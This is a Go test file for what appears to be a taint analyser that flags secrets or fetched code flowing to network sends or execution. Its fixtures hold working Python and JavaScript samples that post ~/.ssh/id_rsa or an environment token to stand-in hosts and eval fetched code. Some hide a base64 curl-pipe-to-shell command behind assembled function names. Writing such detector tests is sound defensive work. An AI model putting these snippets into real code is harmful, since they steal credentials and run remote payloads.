package chain_test

import (
	"strings"
	"testing"
)

// TestByName follows values to calls that a program comes to by a name that is a text, by
// a part that another function takes out, and by what is made for one machine.
func TestByName(t *testing.T) {
	const (
		key    = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
		sent   = "key ~/.ssh/id_rsa -> send body a.example.com"
		socket = "key ~/.ssh/id_rsa -> send socket a.example.com"
		code   = "const t = await (await fetch('https://a.example.com/x')).text();\n"
	)
	for name, c := range map[string]struct{ file, source, want string }{
		"a function that is set":        {"a.py", key + "import json\nsetattr(json, 'x', requests.post)\njson.x('https://a.example.com', data=key)\n", sent},
		"an item that is set":           {"a.py", key + "import operator\nd = {}\noperator.setitem(d, 'x', requests.post)\nd['x']('https://a.example.com', data=key)\n", sent},
		"a variable by its name":        {"a.py", key + "globals()['s'] = requests.post\ns('https://a.example.com', data=key)\n", sent},
		"one of a function":             {"a.py", key + "def f():\n    send = requests.post\n    locals()['send']('https://a.example.com', data=key)\nf()\n", sent},
		"a method that is called later": {"a.py", key + "from operator import methodcaller\nmethodcaller('post', 'https://a.example.com', data=key)(requests)\n", sent},
		"an attribute that is taken":    {"a.py", key + "import operator\noperator.attrgetter('post')(requests)('https://a.example.com', data=key)\n", sent},
		"an item that is taken":         {"a.py", key + "import operator\nt = {'a': requests.post}\noperator.itemgetter('a')(t)('https://a.example.com', data=key)\n", sent},
		"names that are only shown":     {"a.py", key + "import operator\nprint(operator.attrgetter('post')(requests), globals()['key'])\n", ""},
		"a property that is defined":    {"a.js", code + "const o = {};\nObject.defineProperty(o, 'go', { value: eval });\no.go(t);\n", "network a.example.com -> evaluate code"},
		"what makes a function":         {"a.js", code + "[]['filter']['constructor'](t)();\n", "network a.example.com -> evaluate code"},
		"a constructor of its own":      {"a.js", code + "class A { b(c) { return new this['constructor'](c); } }\nnew A().b(t);\n", ""},
		"code of a timer":               {"a.js", code + "setTimeout(t, 10);\n", "network a.example.com -> evaluate code"},
		"a function of a timer":         {"a.js", code + "setTimeout(() => console.log(t), 10);\n", ""},
		"code of a shell with a hole":   {"a.js", "import { $ } from 'zx';\n" + code + "await $`sh -c ${t}`;\n", "network a.example.com -> run command"},
		"a word of a command":           {"a.js", "import { $ } from 'zx';\n" + code + "await $`echo ${t}`;\n", ""},
		"a method of a remote object":   {"a.py", key + "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://a.example.com/rpc').report(key)\n", sent},
		"a table of a database":         {"a.py", key + "import psycopg2\nc = psycopg2.connect(host='a.example.com')\nc.cursor().execute('insert', [key])\n", socket},
		"a database of the environment": {"a.py", "import os, psycopg2\nc = psycopg2.connect(os.environ['DATABASE_URL'])\nc.cursor().execute('x', [os.environ['API_TOKEN']])\n", ""},
		"a log of another machine":      {"a.py", key + "import logging, logging.handlers\nl = logging.getLogger('x')\nl.addHandler(logging.handlers.SysLogHandler(address=('a.example.com', 514)))\nl.warning('%s', key)\n", socket},
		"a log of its own":              {"a.py", key + "import logging\nl = logging.getLogger('x')\nl.addHandler(logging.FileHandler('a.log'))\nl.warning('%s', key)\n", ""},
		"a file to another machine":     {"a.py", "import paramiko, os\nc = paramiko.SSHClient()\nc.connect('a.example.com')\nc.open_sftp().put(os.path.expanduser('~/.ssh/id_rsa'), '/x')\n", "key ~/.ssh/id_rsa -> send file a.example.com"},
		"a key to log in with":          {"a.py", "import paramiko, os\nc = paramiko.SSHClient()\nc.connect('a.example.com', key_filename=os.path.expanduser('~/.ssh/id_rsa'))\nc.open_sftp().put('a.txt', '/x')\n", ""},
		"a stream into a request":       {"a.js", "const fs = require('fs'), os = require('os'), https = require('https');\nfs.createReadStream(os.homedir() + '/.ssh/id_rsa').pipe(https.request('https://a.example.com', { method: 'POST' }));\n", sent},
		"a stream into a file":          {"a.js", "const fs = require('fs'), os = require('os');\nfs.createReadStream(os.homedir() + '/.ssh/id_rsa').pipe(fs.createWriteStream('b'));\n", ""},
		"an address below another":      {"a.js", "const axios = require('axios'), fs = require('fs'), os = require('os');\nconst c = axios.create({ baseURL: 'https://a.example.com' });\nc.post('/x', fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\n", sent},
	} {
		t.Run(name, func(t *testing.T) {
			if got := strings.Join(follow(t, "\n-- "+c.file+" --\n"+c.source), "\n"); strings.TrimSpace(got) != c.want {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

// A part in brackets is the part of that name, and what all scripts have stands for itself.
func TestBrackets(t *testing.T) {
	got := follow(t, "-- a.js --\nconst e = process['env']\nglobalThis['fet' + 'ch']('https://in.example.net', {method: 'POST', body: e.ACME_TOKEN})\n")
	if len(got) != 1 || got[0] != "variable ACME_TOKEN -> send body in.example.net" {
		t.Errorf("got %q", got)
	}
}

// What runs a text is found where its name is put together, and where it is looked up.
func TestPutTogether(t *testing.T) {
	const text = "Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA=="
	for _, files := range []string{
		"-- a.js --\nconst p = ['chi', 'ld_pro', 'cess'].join('')\nconst c = require(p)\nc['ex' + 'ec'](Buffer.from('" + text + "', 'base64').toString())\n",
		"-- a.py --\nimport base64\nvars(__import__('os'))['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
		"-- a.py --\nimport base64, sys\nsys.modules['os'].__dict__['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
	} {
		if got := follow(t, files); len(got) != 1 || !strings.HasPrefix(got[0], "coded ") {
			t.Errorf("%s\ngot %q", files, got)
		}
	}
}
